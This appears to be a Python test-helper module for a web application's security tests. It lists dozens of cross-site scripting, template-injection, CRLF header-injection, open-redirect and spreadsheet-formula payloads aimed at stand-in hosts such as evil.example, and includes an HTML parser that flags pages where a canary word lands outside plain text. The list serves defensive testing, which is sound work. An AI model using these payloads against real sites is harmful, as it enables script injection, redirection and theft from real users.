"""What attackers type. Every payload of scripts carries one word; a page in which that word stands anywhere but in text was broken into."""

from html.parser import HTMLParser

WORD = "zxqwalrus"
SCRIPTS = tuple(
    payload.replace("X", WORD)
    for payload in (
        "<script>X()</script>",
        "<ScRiPt>X()</sCrIpT>",
        "<script src=//X.example></script>",
        "<<script>X()//<</script>",
        "</title><script>X()</script>",
        "</textarea><script>X()</script>",
        "</select><script>X()</script>",
        "--><script>X()</script>",
        "]]><script>X()</script>",
        '"><script>X()</script>',
        "'><script>X()</script>",
        "<img src=X onerror=X()>",
        '"><img src=X onerror="X()">',
        "'><img src='X' onerror='X()'>",
        "<img/src=X/onerror=X()>",
        "<img\tsrc=X\nonerror=X()>",
        "<svg onload=X()>",
        "</textarea><svg/onload=X()>",
        "<svg><script>X()</script></svg>",
        "<svg><animate onbegin=X() attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=X onerror=X()>",
        "<body onload=X()>",
        "<iframe srcdoc='<script>X()</script>'></iframe>",
        "<iframe src=javascript:X()></iframe>",
        "<a href=javascript:X()>look</a>",
        "<a href='java&#115;cript:X()'>look</a>",
        '<form action="https://X.example"><button>Send</button></form>',
        "<input autofocus onfocus=X()>",
        '" autofocus onfocus="X()',
        "' onmouseover='X()",
        "` onmouseover=`X()",
        "<details open ontoggle=X()>",
        "<video><source onerror=X()></video>",
        "<base href=https://X.example/>",
        "<meta http-equiv=refresh content='0;url=https://X.example'>",
        "<link rel=stylesheet href=https://X.example/x.css>",
        "<style>@import 'https://X.example/x.css'</style>",
        "<object data=https://X.example></object>",
        "<template><script>X()</script></template>",
        "<noscript><p title='</noscript><img src=X onerror=X()>'>",
        "<!--<img src='--><img src=X onerror=X()>'>",
        "&lt;script&gt;X()&lt;/script&gt;",
        "\u003cscript\u003eX()\u003c/script\u003e",
        "＜script＞X()＜/script＞",
        "%3Cscript%3EX()%3C/script%3E",
        "+ADw-script+AD4-X()+ADw-/script+AD4-",
        "{{ X }}{% debug %}{{ settings.SECRET_KEY }}",
        "${X()}#{X()}<%= X() %>",
        "javascript:X()",
        "data:text/html,<script>X()</script>",
        "https://X.example/\"onmouseover='X()",
        "\u202e<script>X()</script>\u202c",
        "\x00<script>X()</script>",
        "x\r\nBcc: X@evil.example",
        "x\r\n\r\n<script>X()</script>",
        "x%0d%0aSet-Cookie:%20X=1",
        "x\u560d\u560aSet-Cookie: X=1",
        "=cmd|' /C X'!A0",
    )
)
ADDRESSES = (
    "https://evil.example",
    "http://evil.example",
    "HTTPS://evil.example",
    "//evil.example",
    "///evil.example",
    "////evil.example",
    "/\\evil.example",
    "\\/evil.example",
    "\\\\evil.example",
    "/\\/evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    "/\r/evil.example",
    "\t//evil.example",
    " //evil.example",
    "\u00a0//evil.example",
    "\x01//evil.example",
    "\x00//evil.example",
    "/%09/evil.example",
    "/%5cevil.example",
    "/%2fevil.example",
    "%2f%2fevil.example",
    "http:evil.example",
    "http:/evil.example",
    "http:///evil.example",
    "https:evil.example",
    "https:\\\\evil.example",
    "h\nttps://evil.example",
    "https://testserver@evil.example",
    "https://testserver:x@evil.example/",
    "https://testserver.evil.example",
    "https://evil.example#testserver",
    "https://evil.example?testserver",
    "https://evil.example\\@testserver",
    "//testserver@evil.example",
    "//evil.example/%2e%2e",
    "/..//evil.example",
    "/.//evil.example",
    "/x/..//evil.example",
    "//evil。example",
    "//evil．example",
    "／／evil.example",
    "/／evil.example",
    "⁄⁄evil.example",
    "//[::1]@evil.example",
    "//0x7f000001",
    "javascript:alert(1)//evil.example",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,evil.example",
    "vbscript:evil.example",
    "blob:https://evil.example",
    "ftp://evil.example",
    "mailto:x@evil.example",
    "file:///etc/evil.example",
    "/ok\r\nLocation: https://evil.example",
    "/ok%0d%0aLocation:%20https://evil.example",
    "/ok\r\nSet-Cookie: evil=1",
    "https://evil.example/accounts/login/?next=/",
    "?next=//evil.example",
)
LINKS = ("href", "src", "action", "formaction", "srcset", "data", "poster", "ping", "cite", "background")
LEADS_ON = ("/", "#", "https://", "http://", "tel:", "mailto:", "sms:", "?")
QUIET = {"value", "title", "alt", "aria-label", "content", "placeholder", "data-label"}


class Reader(HTMLParser):
    """Reads a page as a browser does, and notes where the payloads' word stands in anything but text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.broken: list[str] = []
        self.seen = 0
        self._within = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._within = tag if tag in ("script", "style", "template", "iframe") else ""
        if WORD in tag:
            self.broken.append(f"<{tag}>")
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        self.seen += WORD in value
        if WORD in name or name.startswith("on") or name in ("style", "srcdoc"):
            self.broken.append(f"<{tag} {name}>")
        if WORD in value and name not in QUIET and not (name in LINKS and value.startswith(LEADS_ON)):
            self.broken.append(f"<{tag} {name}={value[:60]}>")
        if name in LINKS and value and not value.startswith(LEADS_ON):
            self.broken.append(f"<{tag} {name}={value[:60]}> leads out of the pages")

    def handle_endtag(self, tag: str) -> None:
        self._within = ""

    def handle_data(self, data: str) -> None:
        self.seen += WORD in data
        if self._within and WORD in data:
            self.broken.append(f"in <{self._within}>: {data[:60]}")

    def handle_comment(self, data: str) -> None:
        if WORD in data:
            self.broken.append(f"comment: {data[:60]}")


def broken(page: str) -> list[str]:
    """Where the payloads' word stands in anything but text, or a page runs what it should not."""
    reader = Reader()
    reader.feed(page)
    reader.close()
    return reader.broken


def shown(page: str) -> int:
    """How often the word stands in the text of a page, or in a box."""
    reader = Reader()
    reader.feed(page)
    reader.close()
    return reader.seen
